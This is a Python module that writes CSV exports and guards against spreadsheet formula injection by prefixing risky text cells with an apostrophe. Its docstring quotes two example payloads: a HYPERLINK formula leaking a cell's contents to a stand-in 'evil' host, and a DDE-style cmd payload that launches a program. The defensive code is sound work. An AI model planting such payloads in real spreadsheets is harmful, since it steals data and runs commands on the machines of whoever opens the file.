"""Tables for spreadsheets: the one CSV writer of every `--format csv`, and the one rule
for what a cell may hold.

A spreadsheet runs a cell that begins with `=`, `+`, `-` or `@` as a formula (and tab or
carriage return let one through), so a risk titled `=HYPERLINK("http://evil/?"&A1,"点击")`
or a department named `@SUM(1+1)*cmd|' /C calc'!A0` would run when the office opens the
file. Text cells that begin so are written with a leading `'` (OWASP's advice): Excel and
LibreOffice show the text as written and never evaluate it.

Numbers are data, not text: a value handed in as a number (an `int`, `float`, `Fraction`
or `Decimal`) is written as the number, `-5` included, so numeric columns stay numeric;
only `str` values are neutralised, even when they look like numbers (`"-5"` in a title is
text, shown as text). The rule itself is `lianzheng.i18n.no_formula`, which `lz export`'s
workbooks and CSV files follow too."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from decimal import Decimal
from fractions import Fraction
from typing import Any

from lianzheng.i18n import no_formula
from lianzheng.spec.values import number_text

BOM = "\ufeff"


def cell(value: Any) -> str:
    """What one cell holds, as CSV text: numbers as numbers, text that a spreadsheet
    would run as a formula prefixed with `'`, nothing for None."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "TRUE" if value else "FALSE"
    if isinstance(value, (int, float, Fraction, Decimal)):
        return number_text(value)  # type: ignore[arg-type]
    return no_formula(str(value))


def csv_text(header: Sequence[Any], rows: Iterable[Sequence[Any]], bom: bool = True) -> str:
    """A whole CSV file: every cell through `cell`, CRLF line ends (RFC 4180), and a byte
    order mark so that Excel reads the UTF-8 Chinese text as such."""
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\r\n")
    writer.writerow([cell(h) for h in header])
    writer.writerows([cell(v) for v in row] for row in rows)
    return (BOM if bom else "") + buf.getvalue()
